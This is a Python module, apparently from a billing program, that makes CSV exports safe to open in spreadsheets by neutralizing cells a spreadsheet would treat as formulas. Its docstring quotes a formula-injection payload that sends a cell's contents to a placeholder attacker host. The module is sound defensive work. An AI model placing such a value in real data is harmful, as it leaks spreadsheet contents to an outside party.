"""CSV that is safe to open in a spreadsheet: every file billrun writes goes through `writer()`.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and Google
Sheets as a formula (CSV injection, OWASP): a customer named `=HYPERLINK("http://evil/?"&A1)` or a manual charge
described `@SUM(...)` would run when a clerk opens the export. Such a cell gets a leading apostrophe, which
spreadsheets show as text and never evaluate. A plain number (`-12.50`, `+3`) is left alone: it is no formula,
and accounting imports need credits as negative amounts.
"""

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


class _Sink(Protocol):
    def write(self, text: str, /) -> Any: ...


def cell(value: object) -> str:
    """The text of one cell, neutralized when a spreadsheet would take it for a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """`csv.writer` with every cell passed through `cell()`; lines end with CRLF (RFC 4180)."""

    def __init__(self, sink: _Sink) -> None:
        self._writer = csv.writer(sink, lineterminator="\r\n")

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(sink: _Sink) -> SafeWriter:
    return SafeWriter(sink)
